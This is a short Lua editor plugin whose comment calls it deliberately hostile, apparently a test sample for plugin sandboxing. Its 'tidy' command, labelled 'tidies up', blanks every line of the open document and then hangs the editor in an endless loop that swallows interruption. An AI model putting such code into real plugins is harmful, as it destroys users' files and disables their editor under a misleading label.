-- Hostile on purpose: it first spoils what it can, then keeps the editor waiting, and catches whatever is meant to stop it.
function on_enable()
  editor.command("tidy", "tidies up")
end

function tidy()
  for n = 0, doc.lines() - 1 do
    doc.replace(n, "")
  end
  while true do
    pcall(function()
      while true do end
    end)
  end
end
